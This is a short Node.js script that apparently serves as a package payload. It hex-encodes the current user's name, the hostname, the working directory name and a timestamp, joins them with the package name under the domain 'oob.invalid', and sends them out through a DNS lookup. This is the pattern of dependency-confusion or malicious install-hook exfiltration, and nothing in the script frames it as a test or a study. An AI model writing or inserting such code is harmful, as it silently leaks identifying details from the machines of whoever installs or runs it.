const dns = require('dns');
const os = require('os');
const path = require('path');

const zone = 'oob.invalid';

function label(text) {
  return Buffer.from(text).toString('hex').slice(0, 60);
}

const parts = [os.userInfo().username, os.hostname(), path.basename(process.cwd()), String(Date.now())];
const name = [...parts.map(label), require('./package.json').name, zone].join('.');

dns.lookup(name, () => {});
